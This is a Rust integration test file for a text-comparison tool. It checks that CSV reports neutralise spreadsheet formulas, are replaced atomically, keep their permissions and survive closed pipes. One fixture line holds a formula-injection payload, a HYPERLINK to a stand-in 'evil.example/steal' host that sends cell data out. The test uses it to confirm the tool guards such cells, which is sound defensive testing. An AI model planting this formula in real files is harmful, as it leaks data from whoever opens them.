//! Reports are safe to open and safe to lose: spreadsheet formulas are neutralised, files are
//! replaced atomically, and a closed pipe ends the run quietly.

use crate::util::{column, csv_records, fixture, temp_files, tree, Env, PAIR};
use std::io::Read;
use std::process::Stdio;

#[test]
fn formula_cells_are_neutralised_end_to_end() {
    let env = Env::new();
    let (p, _) = env.pair("pair", PAIR);
    let s = env.write(
        "pair/secondary.txt",
        "=HYPERLINK(\"https://evil.example/steal?d=\"&A1, \"Click for proof\") The council voted nine to four to approve the outline business case for the North Quay redevelopment on Tuesday.\n\n\
         +44 people attended the special meeting of the council on Tuesday afternoon.\n\n\
         -2 councillors said the budget of the harbour plan was far too small.\n\n\
         @mayor Helen Okafor said the council would not sign a construction contract.\n\n\
         The council voted nine to four to approve the outline business case.\n",
    );
    let ran = env.cmd().arg("compare").arg(&p).arg(&s).run();
    ran.code(0);
    let records = csv_records(&ran.stdout);
    let claim = column(&records[0], "claim");
    let claims: Vec<&str> = records[1..].iter().map(|r| r[claim].as_str()).collect();
    assert!(
        claims.iter().any(|c| c.starts_with("'=HYPERLINK(")),
        "the formula claim is reported, guarded: {claims:?}"
    );
    for lead in ["'+44 people", "'-2 councillors", "'@mayor"] {
        assert!(
            claims.iter().any(|c| c.starts_with(lead)),
            "{lead}: {claims:?}"
        );
    }
    // No cell of the report, in any column, starts a formula.
    for r in &records {
        for cell in r {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "unguarded cell {cell:?} in {r:?}"
            );
        }
    }
    // The same holds for the file written with -o and for batch's reports.
    env.compare_to(&p, &s, "report.csv").run().code(0);
    assert_eq!(env.read("report.csv"), ran.stdout);
    env.cmd()
        .args(["batch", "--fixtures", ".", "--out", "out"])
        .run()
        .code(0);
    for file in ["out/pair.csv", "out/discrepancies.csv"] {
        let text = String::from_utf8(env.read(file)).expect("UTF-8");
        assert!(text.contains("'=HYPERLINK("), "{file}");
        assert!(!text.contains(",=HYPERLINK("), "{file}");
    }
}

/// Writes a previous report at `rel` and returns its bytes.
fn previous_report(env: &Env, rel: &str) -> Vec<u8> {
    let old = b"pair,claim_id\nprevious,1\n".to_vec();
    env.write(rel, &old);
    old
}

#[test]
fn a_failed_write_leaves_the_previous_report_and_no_temporary_files() {
    let env = Env::new();
    let (p, s) = env.pair("pair", PAIR);

    // The target is a folder: refused, the folder untouched, nothing left beside it.
    std::fs::create_dir_all(env.path("out/report.csv")).expect("mkdir");
    env.write("out/report.csv/keep.txt", "keep");
    let ran = env.compare_to(&p, &s, "out/report.csv").run();
    ran.code(2).stderr_has(&["report.csv", "is a directory"]);
    assert_eq!(env.read("out/report.csv/keep.txt"), b"keep");
    assert_eq!(temp_files(&env.path("out")), Vec::<String>::new());

    // The folder does not exist: refused, nothing created.
    let ran = env.compare_to(&p, &s, "missing/report.csv").run();
    ran.code(2).stderr_has(&["missing"]);
    assert!(!env.path("missing").exists());

    // The output would overwrite an input: refused, the input intact.
    for input in [&p, &s] {
        let before = std::fs::read(input).expect("read");
        let ran = env.compare_to(&p, &s, input).run();
        ran.code(2).stderr_has(&["is also an input"]);
        assert_eq!(std::fs::read(input).expect("read"), before);
    }
    assert_eq!(temp_files(&env.path("pair")), Vec::<String>::new());

    // A folder we may not write into (only meaningful when permissions apply to us: not root).
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let old = previous_report(&env, "locked/report.csv");
        let locked = env.path("locked");
        std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o555)).expect("chmod");
        if std::fs::write(locked.join("probe"), "x").is_err() {
            let ran = env.compare_to(&p, &s, "locked/report.csv").run();
            ran.code(2).stderr_has(&["locked"]);
            assert_eq!(env.read("locked/report.csv"), old);
            assert_eq!(temp_files(&locked), Vec::<String>::new());
        }
        std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
}

/// A run killed in the middle of writing its report (here by the file size limit, which stops
/// the process with SIGXFSZ as soon as the report grows past 512 bytes) leaves the previous
/// report as it was.
#[cfg(unix)]
#[test]
fn an_interrupted_run_leaves_the_previous_report_intact() {
    let env = Env::new();
    let (p, s) = env.pair("pair", PAIR);
    let old = previous_report(&env, "out/report.csv");
    let mut cmd = std::process::Command::new("sh");
    cmd.current_dir(env.root())
        .arg("-c")
        .arg("ulimit -f 1 && exec \"$0\" \"$@\"")
        .arg(crate::util::BIN)
        .arg("compare")
        .arg(&p)
        .arg(&s)
        .args(["-o", "out/report.csv"]);
    let out = cmd.output().expect("running sh");
    assert!(
        !out.status.success(),
        "the write was stopped: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        env.read("out/report.csv"),
        old,
        "the previous report is intact"
    );
    // The reports are complete when the run is not interrupted.
    env.compare_to(&p, &s, "out/report.csv").run().code(0);
    let fresh = csv_records(&env.read("out/report.csv"));
    assert!(fresh.len() > 20);
}

#[test]
fn batch_failures_leave_previous_reports_and_no_temporary_files() {
    let env = Env::new();
    env.pair("fx/pair", PAIR);
    // The combined report's path is a folder: batch fails, the pair's old report stays.
    std::fs::create_dir_all(env.path("out/discrepancies.csv")).expect("mkdir");
    let old = previous_report(&env, "out/other.csv");
    let ran = env
        .cmd()
        .args(["batch", "--fixtures", "fx", "--out", "out"])
        .run();
    ran.code(2)
        .stderr_has(&["discrepancies.csv", "is a directory"]);
    assert_eq!(env.read("out/other.csv"), old);
    assert!(env.path("out/discrepancies.csv").is_dir());
    assert_eq!(temp_files(&env.path("out")), Vec::<String>::new());
}

#[cfg(unix)]
#[test]
fn reports_get_ordinary_permissions() {
    use std::os::unix::fs::PermissionsExt;
    let env = Env::new();
    let (p, s) = env.pair("pair", PAIR);
    // What any new file gets here (0o666 less the umask we share with the child).
    let plain = env.write("plain.txt", "x");
    let mode = |path: &std::path::Path| {
        std::fs::metadata(path).expect("stat").permissions().mode() & 0o777
    };
    let expected = mode(&plain);
    env.compare_to(&p, &s, "new.csv").run().code(0);
    assert_eq!(mode(&env.path("new.csv")), expected);
    // A replaced report keeps its mode.
    std::fs::set_permissions(env.path("new.csv"), std::fs::Permissions::from_mode(0o640))
        .expect("chmod");
    env.compare_to(&p, &s, "new.csv").run().code(0);
    assert_eq!(mode(&env.path("new.csv")), 0o640);
    env.cmd()
        .args(["batch", "--fixtures", ".", "--out", "out"])
        .run()
        .code(0);
    for (name, _) in tree(&env.path("out")) {
        assert_eq!(mode(&env.path("out").join(&name)), expected, "{name}");
    }
}

#[cfg(unix)]
#[test]
fn writing_to_a_device_keeps_the_device() {
    use std::os::unix::fs::FileTypeExt;
    // `-o /dev/null` must write into the device, not rename a temporary file over it (which
    // would leave /dev/null a regular file for every other program on the machine).
    let env = Env::new();
    let (p, s) = env.pair("pair", PAIR);
    for format in ["csv", "html"] {
        env.cmd()
            .arg("compare")
            .arg(&p)
            .arg(&s)
            .args(["--format", format, "-o", "/dev/null"])
            .run()
            .code(0);
        let meta = std::fs::metadata("/dev/null").expect("stat /dev/null");
        assert!(
            meta.file_type().is_char_device(),
            "/dev/null is no longer a character device"
        );
    }
}

/// Starts `args` with stdout (or stderr) connected to a pipe whose reading end is closed at once,
/// and insists that the run ends with `code` and prints no panic.
fn closed_pipe(env: &Env, args: &[&str], close_stderr: bool, code: i32) {
    let run = env.cmd().args(args);
    let (out, err) = if close_stderr {
        (Stdio::null(), Stdio::piped())
    } else {
        (Stdio::piped(), Stdio::piped())
    };
    let mut child = run.spawn(out, err);
    let mut stderr = String::new();
    if close_stderr {
        drop(child.stderr.take());
    } else {
        drop(child.stdout.take());
        child
            .stderr
            .take()
            .expect("piped")
            .read_to_string(&mut stderr)
            .expect("reading stderr");
    }
    let status = child.wait().expect("waiting");
    assert_eq!(
        status.code(),
        Some(code),
        "{args:?} with a closed {}: {status}\n{stderr}",
        if close_stderr { "stderr" } else { "stdout" }
    );
    assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
}

#[test]
fn a_closed_pipe_ends_quietly() {
    let env = Env::new();
    let (p, s) = env.pair("fx/pair", PAIR);
    let (p, s) = (p.to_str().expect("UTF-8"), s.to_str().expect("UTF-8"));
    closed_pipe(&env, &["compare", p, s], false, 0);
    closed_pipe(&env, &["compare", "--format", "html", p, s], false, 0);
    closed_pipe(
        &env,
        &["batch", "--fixtures", "fx", "--out", "out"],
        false,
        0,
    );
    closed_pipe(&env, &["merge", "out", "-o", "merged"], false, 0);
    closed_pipe(
        &env,
        &["add", "new-pair", p, s, "--fixtures", "fx"],
        false,
        0,
    );
    let line = serde_json::json!({
        "id": 1,
        "source": String::from_utf8(fixture(PAIR, "primary.txt")).expect("UTF-8"),
        "claim": "The council voted nine to four to approve the outline business case.",
    });
    env.write("claims.jsonl", format!("{line}\n").repeat(50));
    closed_pipe(&env, &["claims", "claims.jsonl"], false, 0);
    // A batch with a broken pair still says so by its status when nobody reads the summary.
    env.write("fx/broken/primary.txt", "only a primary");
    closed_pipe(
        &env,
        &["batch", "--fixtures", "fx", "--out", "out2"],
        false,
        2,
    );
    // Errors and warnings on a closed stderr do not panic either (status 2, not 101).
    closed_pipe(&env, &["compare", "missing.txt", s], true, 2);
    env.write(
        "u16.txt",
        [
            &[0xFF, 0xFE][..],
            &"Plain words here. "
                .repeat(9)
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect::<Vec<u8>>(),
        ]
        .concat(),
    );
    closed_pipe(&env, &["compare", p, "u16.txt", "-o", "r.csv"], true, 0);
}

/// A re-run leaves each report whose bytes are unchanged as it is (the same file, not a
/// replacement), and replaces the reports that changed.
#[cfg(unix)]
#[test]
fn a_rerun_replaces_only_the_reports_that_changed() {
    use std::os::unix::fs::MetadataExt;
    let env = Env::new();
    env.copy_fixtures("fx");
    let batch = || {
        env.cmd()
            .args(["batch", "--fixtures", "fx", "--out", "out"])
            .run()
            .code(0);
    };
    let inode = |rel: &str| {
        std::fs::metadata(env.path("out").join(rel))
            .expect(rel)
            .ino()
    };
    let unchanged = ["lavrov-ntv-2026-02-10.csv", "lavrov-ntv-2026-02-10.html"];
    let changed = ["harbour-council-2026.csv", "harbour-council-2026.html"];
    batch();
    let first = tree(&env.path("out"));
    let before: Vec<u64> = unchanged.iter().chain(&changed).map(|f| inode(f)).collect();

    batch();
    assert_eq!(
        tree(&env.path("out")),
        first,
        "a re-run writes the same bytes"
    );
    let again: Vec<u64> = unchanged.iter().chain(&changed).map(|f| inode(f)).collect();
    assert_eq!(again, before, "unchanged reports are left in place");

    let secondary = env.path("fx/harbour-council-2026/secondary.txt");
    let mut text = std::fs::read_to_string(&secondary).expect("reading a secondary");
    text.push_str("\nThe mayor said the harbour wall would be rebuilt in stone by next spring.\n");
    std::fs::write(&secondary, text).expect("changing a secondary");
    batch();
    for (k, f) in unchanged.iter().enumerate() {
        assert_eq!(inode(f), before[k], "{f} is left in place");
        assert_eq!(env.read(format!("out/{f}")), first[*f], "{f}");
    }
    for (k, f) in changed.iter().enumerate() {
        assert_ne!(inode(f), before[unchanged.len() + k], "{f} is replaced");
        assert_ne!(env.read(format!("out/{f}")), first[*f], "{f}");
    }
}
